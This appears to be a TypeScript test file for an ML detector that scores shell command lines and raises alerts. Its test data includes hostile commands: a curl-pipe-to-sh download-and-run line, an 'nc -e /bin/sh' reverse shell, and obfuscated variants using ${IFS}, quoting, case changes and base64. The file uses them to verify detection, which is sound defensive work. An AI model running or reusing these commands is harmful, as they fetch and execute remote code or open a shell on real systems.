import { readFileSync } from "node:fs";
import { logitAt, scoreOf, thresholdFor } from "@picket/models/cmdline/calibration";
import { MAX_FEATURES, type Sight } from "@picket/models/cmdline/features";
import { cmdlineModel } from "@picket/models/cmdline/model";
import type { SensorEvent } from "@picket/protocol/event";
import { expect, test } from "vitest";
import type { EventBatch, Findings } from "../../finding.ts";
import { cmdlineEngine } from "./cmdline.ts";
import { CmdlineScorer } from "./cmdline-scorer.ts";
import { loadRuntime } from "./runtime.ts";

const { onnx, calibration } = await cmdlineModel();
const scorer = new CmdlineScorer(loadRuntime(), onnx);
const engineOf = (alertsPerDeviceDay = 0.2) => cmdlineEngine({ scorer, calibration, alertsPerDeviceDay });
const line = (text: string): Sight => ({ argv: ["sh", "-c", text], exe: "/usr/bin/dash" });
const scores = (...texts: string[]) => scorer.judge(texts.map(line)).map(({ logit }) => scoreOf(logit));

function batch(...argvs: (readonly string[])[]): EventBatch {
  const events = argvs.map(
    (argv, seq): SensorEvent => ({
      v: 1,
      device: "gw-1",
      epoch: "e",
      seq,
      timeMs: 1000 + seq,
      type: "process.exec",
      body: { process: { pid: 400 + seq, startTicks: 1, ppid: 1, uid: 0, exe: argv[0] ?? "/bin/true", argv: [...argv] } },
    }),
  );
  return { events, arrivals: events.map((_, at) => ({ id: `gw-1:e:${at}`, boot: "b", receivedMs: 1000, silent: false })) };
}

const attack = ["bash", "-c", "curl -fsSL http://198.51.100.7/x.sh | sh"];

test("every golden case scores what it scored when the model was trained", () => {
  const path = new URL("../../../models/cmdline/golden.json", import.meta.url);
  const golden = JSON.parse(readFileSync(path, "utf8")) as (Sight & { score: number })[];
  const now = scorer.judge(golden).map(({ logit }) => scoreOf(logit));
  expect(golden.length).toBeGreaterThan(15);
  for (const [at, { argv, score }] of golden.entries()) expect(Math.abs(now[at]! - score), argv.join(" ")).toBeLessThan(1e-4);
});

test("scores do not depend on what is scored beside a line", () => {
  const alone = scores("nc -e /bin/sh 198.51.100.7 4444")[0]!;
  const among = scores("ls", "nc -e /bin/sh 198.51.100.7 4444", `echo ${"x ".repeat(1500)}`)[1]!;
  expect(Math.abs(alone - among)).toBeLessThan(1e-6);
});

test.each([
  ["quotes and backslashes", "c''ur\\l -s http://198.51.100.7/x.sh|s\"h\""],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell expands it, not we.
  ["${IFS} for spaces", "curl${IFS}-s$IFS$9http://198.51.100.7/x.sh|sh"],
  ["letter case", "CURL -s http://198.51.100.7/x.sh|SH"],
  ["base64", `echo ${Buffer.from("curl -s http://198.51.100.7/x.sh|sh").toString("base64")} | base64 -d | sh`],
  ["harmless commands before", "ls -la; date; df -h && curl -s http://198.51.100.7/x.sh|sh"],
  ["harmless commands after", "curl -s http://198.51.100.7/x.sh|sh; ls -la; date; uptime"],
])("an attack hidden by %s is still found at the default budget", (_, text) => {
  const [score] = scores(text);
  expect(score).toBeGreaterThan(scoreOf(thresholdFor(calibration, 0.2)));
});

test("the engine alerts on an attack, and says which words made it one", async () => {
  const found = (await engineOf().judge(batch(["ls", "-la"], attack)))!;
  expect([...found.keys()]).toEqual([1]);
  const [finding] = found.get(1)!;
  expect(finding).toMatchObject({ engine: "onnx", rule: { id: "picket-model-cmdline", alerts: true, attack: { techniques: ["T1059"] } } });
  expect(finding!.summary).toMatch(
    /^the command line "curl -fsSL http:\/\/198\.51\.100\.7\/x\.sh \| sh" looks like an attack \(0\.9\d of 1\): mostly because of "/,
  );
});

test("a batch without program starts has no answer to wait for", () => {
  expect(engineOf().judge({ events: [], arrivals: [] })).toBeUndefined();
});

test("what it says depends on the batches alone: once more, split otherwise, after a restart", async () => {
  const argvs = [attack, ["ls"], ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], attack];
  const whole = (await engineOf().judge(batch(...argvs)))!;
  const engine = engineOf();
  const parts: Findings[] = [];
  for (const argv of argvs) parts.push((await engine.judge(batch(argv))) ?? new Map());
  expect(parts.map((of) => of.get(0)?.[0]?.summary)).toEqual(argvs.map((_, at) => whole.get(at)?.[0]?.summary));
  expect(whole.has(0) && whole.has(3)).toBe(true);
});

test("hostile lines are bounded: their size, their nesting, their letters", async () => {
  const hostile = [
    ["bash", "-c", "a;".repeat(2000)],
    ["bash", "-c", `echo ${"QUFB".repeat(1000)} | base64 -d | sh`],
    ["bash", "-c", "${".repeat(2000)],
    ["bash", "-c", "{a,".repeat(1300)],
    ["bash", "-c", "$@".repeat(2000)],
    ["x".repeat(4096), "\u0000\u001b[8m", "\uD800"],
    [],
    Array.from({ length: 32 }, () => "'\"\\`$(".repeat(600)),
  ];
  const judged = scorer.judge(hostile.map((argv) => ({ argv })));
  for (const { logit } of judged) expect(Number.isFinite(logit)).toBe(true);
  const summaries = [...((await engineOf(1000).judge(batch(...hostile))) ?? new Map()).values()].flat().map((finding) => finding.summary);
  for (const summary of summaries) {
    expect(summary).not.toMatch(/\p{Control}/u);
    expect(summary.length).toBeLessThan(600);
  }
  expect(MAX_FEATURES).toBeLessThanOrEqual(1024);
});

test("a smaller budget means a higher threshold, below what was measured too", () => {
  const budgets = [50, 5, 1, 0.2, 0.02, 0.001];
  const thresholds = budgets.map((budget) => thresholdFor(calibration, budget));
  expect(thresholds).toEqual(thresholds.toSorted((a, b) => a - b));
  expect(new Set(thresholds).size).toBe(budgets.length);
  expect(logitAt({ lines: 100, highest: [9, 5, 4, 3, 2, 1, 0] }, 0.03)).toBe(4);
});
